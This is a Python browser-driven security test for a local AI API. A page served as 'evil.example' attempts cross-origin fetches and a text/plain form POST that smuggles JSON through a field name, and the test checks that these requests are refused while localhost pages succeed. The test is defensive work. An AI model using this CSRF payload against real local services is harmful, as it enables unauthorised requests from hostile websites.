"""S2 to S4 with a real browser: what pages of another site, and of this machine, can do with the port."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import SimpleQueue
from typing import Any

import pytest

from app.bootstrap import Running
from tests.conformance.security.conftest import ASKING

_CHROMIUM = next((path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None)
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(_CHROMIUM is None, reason="no Chromium here (Debian: apt-get install chromium)"),
]

# The site's name leads to this machine, so that the browser's own walls around local networks do not stand in.
_SITE = "evil.example"
_PAGE = """<!DOCTYPE html><title>page</title><iframe name="frame"></iframe>
<form id="form" target="frame" method="post" enctype="text/plain"><input name='{"model": "ember", "x": "' value='"}'></form>
<script>
const api = "API", asking = JSON.stringify(ASKING), told = {};
async function attempt(name, path, options) {
  try {
    const answer = await fetch(api + path, options);
    told[name] = {type: answer.type, status: answer.status, body: await answer.text(), id: answer.headers.get("x-request-id")};
  } catch (error) {
    told[name] = {type: error.name};
  }
}
async function main() {
  const json = {"content-type": "application/json", "authorization": "Bearer x", "x-stainless-lang": "js"};
  await attempt("read", "/v1/models", {});
  await attempt("ask", "/v1/chat/completions", {method: "POST", headers: json, body: asking});
  await attempt("plain", "/v1/chat/completions", {method: "POST", mode: "no-cors", body: asking});
  await attempt("blind", "/v1/models", {mode: "no-cors"});
  await attempt("credentials", "/v1/models", {credentials: "include"});
  const form = document.getElementById("form");
  form.action = api + "/v1/chat/completions";
  const sent = new Promise(done => { document.querySelector("iframe").onload = done; setTimeout(done, 3000); });
  form.submit();
  await sent;
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
}
main();
</script>"""


class Site(ThreadingHTTPServer):
    """Serves the page under every name, and takes what it found out."""

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.page = page.encode()
        self.told: SimpleQueue[dict[str, Any]] = SimpleQueue()


class Visit(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        self._answer(self.server.page)

    def do_POST(self) -> None:
        self.server.told.put(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        self._answer(b"")

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing goes to the terminal."""

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def site(address: str) -> Iterator[Site]:
    made = Site(_PAGE.replace("API", address.removesuffix("/v1")).replace("ASKING", json.dumps(ASKING)))
    thread = threading.Thread(target=made.serve_forever)
    thread.start()
    yield made
    made.shutdown()
    thread.join()
    made.server_close()


def visit(site: Site, host: str, profile: Path) -> dict[str, Any]:
    """What the page found out when it was opened under that name."""
    assert _CHROMIUM is not None
    command = [
        *(_CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"),
        *(f"--user-data-dir={profile}", f"--host-resolver-rules=MAP {_SITE} 127.0.0.1", f"http://{host}:{site.server_port}/"),
    ]
    browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with browser:
        try:
            return site.told.get(timeout=120)
        finally:
            browser.terminate()


def test_s2_s3_pages_of_another_site_run_nothing_and_read_nothing(program: Running, site: Site, tmp_path: Path) -> None:
    known = {record.id for record in program.services.activity.records}
    told = visit(site, _SITE, tmp_path / "profile")
    assert told["read"] == told["ask"] == told["credentials"] == {"type": "TypeError"}
    for name in ("plain", "blind"):
        assert told[name] == {"type": "opaque", "status": 0, "body": "", "id": None}
    seen = [record for record in program.services.activity.records if record.id not in known]
    assert {record.status for record in seen} == {403}
    assert len(seen) >= 5
    assert all(record.model == "" for record in seen)
    assert f"http://{_SITE}:{site.server_port}" in [caller.name for caller in program.services.refusals.callers]


def test_s3_s4_pages_of_this_machine_may_use_it_but_not_without_asking(site: Site, tmp_path: Path) -> None:
    told = visit(site, "localhost", tmp_path / "profile")
    assert (told["read"]["type"], told["read"]["status"]) == ("cors", 200)
    assert told["ask"]["status"] == 200
    assert json.loads(told["ask"]["body"])["object"] == "chat.completion"
    assert told["ask"]["id"].startswith("req_")
    # Credentials would need a header that is never sent.
    assert told["credentials"] == {"type": "TypeError"}
